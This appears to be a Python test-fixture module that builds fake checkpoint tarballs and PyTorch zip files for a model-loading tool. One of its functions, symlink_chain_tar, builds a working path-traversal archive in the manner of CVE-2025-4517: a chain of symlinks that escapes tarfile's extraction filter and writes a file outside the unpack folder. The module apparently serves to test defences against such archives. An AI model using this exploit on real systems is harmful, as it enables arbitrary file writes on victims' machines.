"""Small stand-ins for the real artifacts: checkpoint tarballs and PyTorch checkpoint files."""

import io
import pickle
import tarfile
import zipfile

from tui import catalog

EXPECTED = catalog.get("amrcnn-r50-fpn").weights.expected_files


def make_tar(path, members):
    """members: (TarInfo fields, bytes or None) pairs."""
    with tarfile.open(path, "w:gz") as tar:
        for fields, data in members:
            info = tarfile.TarInfo(fields.pop("name"))
            for key, value in fields.items():
                setattr(info, key, value)
            if data is not None:
                info.size = len(data)
            tar.addfile(info, io.BytesIO(data) if data is not None else None)
    return path


def checkpoint_members(folder="fashionpedia-r50-fpn"):
    return [({"name": f"{folder}/{name}"}, f"{name} bytes".encode()) for name in EXPECTED]


def torch_zip(path, folder="archive"):
    """The layout torch.save (>= 1.6) writes: folder/data.pkl, folder/version, folder/data/N."""
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr(f"{folder}/data.pkl", pickle.dumps({"state_dict": {}}, protocol=2))
        archive.writestr(f"{folder}/version", "3\n")
        archive.writestr(f"{folder}/data/0", b"\x00" * 64)
    return path


def symlink_chain_tar(path, levels=16, climb=2, payload=b"escaped"):
    """A tarball in the manner of CVE-2025-4517: every link looks inside the archive when read as
    text, but the folders behind the short links have names so long that the real path passes
    PATH_MAX, where `os.path.realpath` (and so tarfile's `data` filter before 3.11.13/3.12.11) stops
    following links. `ESCAPE` ends up pointing `climb` folders above the unpacking folder, and the
    file `ESCAPE/pwned` is written there."""
    long_name = "d" * 247
    members, physical = [], []
    for step in "abcdefghijklmnopqrstuvwxyz"[:levels]:
        members.append(({"name": "/".join([*physical, long_name]), "type": tarfile.DIRTYPE}, None))
        members.append(({"name": "/".join([*physical, step]), "type": tarfile.SYMTYPE, "linkname": long_name}, None))
        physical.append(long_name)
    short = "/".join("abcdefghijklmnopqrstuvwxyz"[:levels])
    back_to_top = f"{short}/{'l' * 254}"
    members.append(({"name": back_to_top, "type": tarfile.SYMTYPE, "linkname": "../" * levels}, None))
    members.append(({"name": "ESCAPE", "type": tarfile.SYMTYPE, "linkname": back_to_top + "/.." * climb}, None))
    members.append(({"name": "ESCAPE/pwned"}, payload))
    return make_tar(path, [*checkpoint_members(), *members])
